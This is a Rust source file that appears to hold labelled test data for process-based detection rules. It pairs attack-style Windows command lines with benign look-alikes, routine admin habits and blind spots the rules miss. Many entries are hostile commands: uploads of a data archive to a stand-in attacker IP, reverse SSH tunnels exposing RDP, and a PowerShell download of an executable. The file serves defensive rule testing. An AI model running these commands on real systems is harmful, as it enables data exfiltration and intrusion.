//! More command lines than the demo plants: further variants of attacks, honest work that does what a rule is about, and
//! attacks that the rules' definitions cannot see.
//!
//! As in [`super::commands`], what a line is was decided by a person who read what the rule means.

use super::commands::{
    APACHE, COMMANDS, Command, IIS, POWERSHELL, PUBLIC, PUTTY, SYSTEM32, TOMCAT, TOOLS, WIRESHARK, child,
};
use super::plan::SceneKind;
use super::rules::Rule;

const fn line(
    rule: Rule,
    fires: bool,
    dir: &'static str,
    name: &'static str,
    image: &'static str,
    line: &'static str,
) -> Command {
    Command { rule, fires, dir, name, image, line, parent: "" }
}

const WINSCP: &str = r"C:\Program Files (x86)\WinSCP";
const OPENSSH: &str = r"C:\Windows\System32\OpenSSH";
const TAP: &str = r"C:\Program Files\TAP-Windows\bin";
const JAVA: &str = r"C:\Program Files\Java\jre\bin\java.exe";

use Rule::{Certutil, DnsTools, Ftp, Panda, PandaRussian, Sniff, Tap, Tunnel};
use SceneKind::{Attack, BlindSpot, Habit, LookAlike};

/// The lines, with what each is. The order is part of a seed's meaning.
const MORE: &[(SceneKind, Command)] = &[
    (
        Attack,
        line(Ftp, true, TOOLS, "lftp.exe", "lftp", r#"lftp.exe -c "open 203.0.113.7; mirror -R C:/Data /in; bye""#),
    ),
    (
        Attack,
        line(
            Ftp,
            true,
            SYSTEM32,
            "curl.exe",
            "curl",
            r"curl.exe --silent --upload-file C:\Data\q3.zip sftp://203.0.113.7/in/",
        ),
    ),
    (Attack, line(Ftp, true, TOOLS, "ncftpput.exe", "ncftpput", r"ncftpput.exe -R 203.0.113.7 /in C:\Data")),
    (Attack, line(Ftp, true, SYSTEM32, "FTP.EXE", "ftp", r"FTP.EXE  -n   –S:C:\Users\Public\up.txt 203.0.113.7")),
    (Attack, line(Ftp, true, OPENSSH, "scp.exe", "scp", r#"scp.exe -q C:\Data\q3.zip "drop@203.0.113.7:/up dir/""#)),
    (LookAlike, line(Ftp, false, OPENSSH, "sftp.exe", "sftp", "sftp.exe admin@app01")),
    (LookAlike, line(Ftp, false, OPENSSH, "scp.exe", "scp", r"scp.exe app01:/var/log/app.log C:\Logs\")),
    (LookAlike, line(Ftp, false, SYSTEM32, "tftp.exe", "tftp", "tftp.exe -i 192.0.2.10 GET boot.bin")),
    (
        Habit,
        line(
            Ftp,
            true,
            WINSCP,
            "WinSCP.com",
            "winscp",
            r"WinSCP.com /ini=nul /script=C:\Jobs\bank.txt /log=C:\Jobs\bank.log",
        ),
    ),
    (
        Habit,
        line(
            Ftp,
            true,
            PUTTY,
            "pscp.exe",
            "pscp",
            r"pscp.exe -batch C:\Jobs\catalogue.csv feeds@sftp.partner.example.net:/in/",
        ),
    ),
    (Habit, line(Ftp, true, OPENSSH, "scp.exe", "scp", "scp.exe build.tar.gz deploy@app01:/srv/releases/")),
    (
        BlindSpot,
        line(Ftp, false, PUBLIC, "svcupd.exe", "svcupd", r"svcupd.exe -T C:\Data\q3.zip ftp://203.0.113.7/in/"),
    ),
    (
        BlindSpot,
        line(Ftp, false, POWERSHELL, "powershell.exe", "powershell", "powershell.exe -nop -enc JABjAD0ATgBlAHcA"),
    ),
    (
        Attack,
        line(
            Certutil,
            true,
            SYSTEM32,
            "CertUtil.exe",
            "certutil",
            r#"CertUtil.exe -f "-encode" "C:\Data\q3.zip" C:\Data\q3.txt"#,
        ),
    ),
    (
        Attack,
        line(
            Certutil,
            true,
            SYSTEM32,
            "certutil.exe",
            "certutil",
            r"certutil.exe   —encodehex   C:\Data\q3.zip   q3.hex",
        ),
    ),
    (LookAlike, line(Certutil, false, SYSTEM32, "certutil.exe", "certutil", r"certutil.exe -verify C:\PKI\encode.cer")),
    (
        Habit,
        line(Certutil, true, SYSTEM32, "certutil.exe", "certutil", r"certutil.exe -encode C:\PKI\ca.cer C:\PKI\ca.pem"),
    ),
    (BlindSpot, line(Certutil, false, PUBLIC, "crt.exe", "crt", r"crt.exe -encode C:\Data\q3.zip C:\Data\q3.txt")),
    (
        BlindSpot,
        line(
            Certutil,
            false,
            POWERSHELL,
            "powershell.exe",
            "powershell",
            r#"powershell.exe -c "[Convert]::ToBase64String([IO.File]::ReadAllBytes('C:\Data\q3.zip'))""#,
        ),
    ),
    (Attack, line(DnsTools, true, TOOLS, "dns2tcp.exe", "dns2tcp", "dns2tcp.exe -z t5.example.net")),
    (LookAlike, line(DnsTools, false, SYSTEM32, "dnscmd.exe", "dnscmd", "dnscmd.exe dc01 /EnumRecords example.com .")),
    (LookAlike, line(DnsTools, false, SYSTEM32, "ipconfig.exe", "ipconfig", "ipconfig.exe /displaydns")),
    (LookAlike, line(DnsTools, false, TOOLS, "dig.exe", "dig", "dig.exe +short TXT t1.example.net")),
    (BlindSpot, line(DnsTools, false, PUBLIC, "svch0st.exe", "svch0st", "svch0st.exe -f -P secret t1.example.net")),
    (Attack, line(Tap, true, PUBLIC, "tapinstall.exe", "tapinstall", "tapinstall.exe update OemVista.inf tap0901")),
    (
        Attack,
        line(
            Tap,
            true,
            PUBLIC,
            "TAPINSTALL.EXE",
            "tapinstall",
            r#""C:\Users\Public\TAPINSTALL.EXE" install "C:\Users\Public\OemVista.inf" tap0901"#,
        ),
    ),
    (Attack, line(Tap, true, TOOLS, "tapinstall.exe", "tapinstall", "tapinstall.exe remove tap0901")),
    (LookAlike, line(Tap, false, SYSTEM32, "pnputil.exe", "pnputil", "pnputil.exe /add-driver printer.inf /install")),
    (
        LookAlike,
        line(Tap, false, SYSTEM32, "msiexec.exe", "msiexec", r"msiexec.exe /i C:\Install\tapinstall-docs.msi /qn"),
    ),
    (
        Habit,
        line(
            Tap,
            true,
            TAP,
            "tapinstall.exe",
            "tapinstall",
            r#""C:\Program Files\TAP-Windows\bin\tapinstall.exe" install OemVista.inf tap0901"#,
        ),
    ),
    (BlindSpot, line(Tap, false, PUBLIC, "t.exe", "t", "t.exe install OemVista.inf tap0901")),
    (
        Attack,
        line(Tunnel, true, PUBLIC, "plink.exe", "plink", r#""C:\Users\Public\plink.exe" -N -D 1080 drop@203.0.113.9"#),
    ),
    (Attack, line(Tunnel, true, TOOLS, "SOCAT.EXE", "socat", "SOCAT.EXE - OPENSSL:203.0.113.9:443,verify=0")),
    (
        Attack,
        line(Tunnel, true, PUBLIC, "PLINK", "plink", "PLINK -P 443 -pw x -R 3389:127.0.0.1:3389 drop@203.0.113.9"),
    ),
    (LookAlike, line(Tunnel, false, OPENSSH, "ssh.exe", "ssh", "ssh.exe admin@app01")),
    (LookAlike, line(Tunnel, false, PUTTY, "pageant.exe", "pageant", r"pageant.exe C:\Keys\plink.ppk")),
    (Habit, line(Tunnel, true, PUTTY, "plink.exe", "plink", "plink.exe -batch admin@app01 systemctl status nginx")),
    (
        Habit,
        line(
            Tunnel,
            true,
            r"C:\Program Files (x86)\stunnel\bin",
            "stunnel.exe",
            "stunnel",
            r"stunnel.exe C:\Jobs\mailrelay.conf",
        ),
    ),
    (BlindSpot, line(Tunnel, false, OPENSSH, "ssh.exe", "ssh", "ssh.exe -N -R 4444:127.0.0.1:3389 drop@203.0.113.9")),
    (BlindSpot, line(Tunnel, false, PUBLIC, "p.exe", "p", "p.exe -ssh -R 4444:127.0.0.1:3389 drop@203.0.113.9")),
    (Habit, line(Sniff, true, WIRESHARK, "tshark.exe", "tshark", r#"tshark.exe -i Ethernet0 -f "port 53" -c 500"#)),
    (BlindSpot, line(Sniff, false, PUBLIC, "ts.exe", "ts", r"ts.exe -i eth0 -w C:\Data\cap.pcap")),
    (BlindSpot, line(Sniff, false, WIRESHARK, "Wireshark.exe", "wireshark", "Wireshark.exe -k -i Ethernet0")),
    (LookAlike, line(Sniff, false, WIRESHARK, "tshark.exe", "tshark", r"tshark.exe -r C:\Data\old.pcap -Y http")),
    (Attack, line(Panda, true, r"C:\aaaa", "netsess.exe", "netsess", r"netsess.exe \\dc01")),
    (Attack, line(Panda, true, SYSTEM32, "cmd.exe", "cmd", r"cmd.exe /c copy .\1.7z \\files\drop\")),
    (LookAlike, line(Panda, false, SYSTEM32, "ldifde.exe", "ldifde", "ldifde.exe -i -f import.ldf")),
    (LookAlike, line(Panda, false, r"C:\ProgramData\7z", "7za.exe", "7za", r"7za.exe a -r C:\Backup\11.7z C:\Data")),
    (BlindSpot, line(Panda, false, r"C:\Program Files\7-Zip", "7z.exe", "7z", r"7z.exe a -r 1.7z C:\Data")),
    (
        Attack,
        line(PandaRussian, true, SYSTEM32, "XCOPY.EXE", "xcopy", r"XCOPY.EXE \\fs01\hr$ C:\Users\Public\h /E/S/H/C/Q"),
    ),
    (
        Attack,
        line(
            PandaRussian,
            true,
            TOOLS,
            "ADExplorer.exe",
            "adexplorer",
            r#"ADExplorer.exe -accepteula -snapshot "" C:\Users\Public\ad.dat"#,
        ),
    ),
    (
        LookAlike,
        line(
            PandaRussian,
            false,
            SYSTEM32,
            "robocopy.exe",
            "robocopy",
            r"robocopy.exe \\fs01\projects D:\Copy /E /COPYALL",
        ),
    ),
    (
        Habit,
        line(
            PandaRussian,
            true,
            SYSTEM32,
            "xcopy.exe",
            "xcopy",
            r"xcopy.exe \\fs01\projects D:\New /S /E /C /Q /H /Y /K",
        ),
    ),
    (
        BlindSpot,
        line(
            PandaRussian,
            false,
            SYSTEM32,
            "robocopy.exe",
            "robocopy",
            r"robocopy.exe \\fs01\finance C:\Users\Public\f /E /R:0",
        ),
    ),
    (Attack, child(true, IIS, SYSTEM32, "net1.exe", "net1", "net1 localgroup administrators")),
    (Attack, child(true, APACHE, SYSTEM32, "nltest.exe", "nltest", "nltest.exe /domain_trusts")),
    (
        Attack,
        child(
            true,
            TOMCAT,
            POWERSHELL,
            "powershell.exe",
            "powershell",
            "powershell.exe -c iwr http://203.0.113.9/a -o a.exe",
        ),
    ),
    (LookAlike, child(false, IIS, SYSTEM32, "WerFault.exe", "werfault", "WerFault.exe -u -p 4120 -s 900")),
    (LookAlike, child(false, APACHE, SYSTEM32, "cmd.exe", "cmd", r"cmd.exe /C C:\Tools\sendmail.exe -t -i")),
    (
        Habit,
        child(
            true,
            IIS,
            SYSTEM32,
            "cmd.exe",
            "cmd",
            r"cmd.exe /c wkhtmltopdf.exe C:\Web\report.html C:\Web\report.pdf",
        ),
    ),
    (BlindSpot, child(false, JAVA, SYSTEM32, "cmd.exe", "cmd", "cmd.exe /c whoami")),
    (BlindSpot, child(false, IIS, PUBLIC, "update.exe", "update", "update.exe /all")),
];

/// A planted command by its index: the demo's first, then these.
pub fn command_at(index: u8) -> Option<&'static Command> {
    let index = usize::from(index);
    COMMANDS.get(index).or_else(|| MORE.get(index.checked_sub(COMMANDS.len())?).map(|(_, command)| command))
}

/// The planted commands of a rule that are of this kind, by index; those of the demo, too.
pub fn variants_of(rule: Rule, kind: SceneKind) -> Vec<u8> {
    let demo = COMMANDS.iter().map(|c| (if c.fires { Attack } else { LookAlike }, c));
    let all = demo.chain(MORE.iter().map(|(kind, c)| (*kind, c)));
    (0u8..).zip(all).filter(|(_, (k, c))| *k == kind && c.rule == rule).map(|(i, _)| i).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_process_rule_has_five_variants_of_attacks_three_look_alikes_and_what_it_cannot_see() {
        for rule in [Ftp, Certutil, DnsTools, Tap, Tunnel, Sniff, Panda, PandaRussian, Rule::WebShell] {
            let n = |kind| variants_of(rule, kind).len();
            assert!(n(Attack) >= 5 && n(LookAlike) >= 3 && n(BlindSpot) >= 1, "{}", rule.id());
        }
        let all = COMMANDS.len() + MORE.len();
        assert!(u8::try_from(all).is_ok());
        assert!(command_at(all as u8).is_none() && command_at(all as u8 - 1).is_some());
        assert!(MORE.iter().all(|(kind, c)| c.fires == matches!(kind, Attack | Habit)));
    }
}
